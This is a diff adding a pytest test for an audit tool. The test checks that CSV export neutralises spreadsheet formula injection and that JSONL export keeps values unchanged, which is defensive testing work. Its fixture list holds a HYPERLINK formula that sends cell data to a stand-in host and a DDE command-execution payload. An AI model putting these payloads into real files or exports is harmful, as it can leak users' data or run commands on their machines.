@@ -122,3 +122,28 @@ def test_show_lists_traces_and_timelines(trail, capsys):
     out = capsys.readouterr().out
     assert "op.sql" in out and "SELECT * FROM loans WHERE id = 0" in out
     assert cli_main(["show", "--db", str(trail), "nope"]) == 2
+
+
+def test_csv_cells_that_spreadsheets_would_run_are_neutralised(make_writer, trail_dir, tmp_path):
+    """OWASP's CSV injection advice: a cell starting with =, +, -, @, tab or CR is prefixed
+    with an apostrophe in CSV; JSONL keeps the value as it is."""
+    from jupyter_audit.store.export import csv_cell
+
+    w = make_writer()
+    evil = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]
+    for i, text in enumerate(evil):
+        event = sql_event(i)
+        event["payload"]["statement"] = text
+        w.append(event)
+    w.close()
+    db = trail_dir / "trail.duckdb"
+    out, raw = tmp_path / "out.csv", tmp_path / "out.jsonl"
+    assert cli_main(["export", "--db", str(db), "--format", "csv", "-o", str(out)]) == 0
+    assert cli_main(["export", "--db", str(db), "--format", "jsonl", "-o", str(raw)]) == 0
+    cells = [c for row in csv.reader(out.open()) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith("-2")]
+    statements = [json.loads(r)["payload"].get("statement") for r in raw.read_text().splitlines()]
+    assert [s for s in statements if s in evil] == evil  # untouched outside CSV
+    assert csv_cell("-1") == "-1" and csv_cell("-1.5") == "-1.5"  # plain numbers stay
+    assert csv_cell("-1+1") == "'-1+1" and csv_cell("\t=1") == "'\t=1"
+    assert csv_cell("a=b") == "a=b"
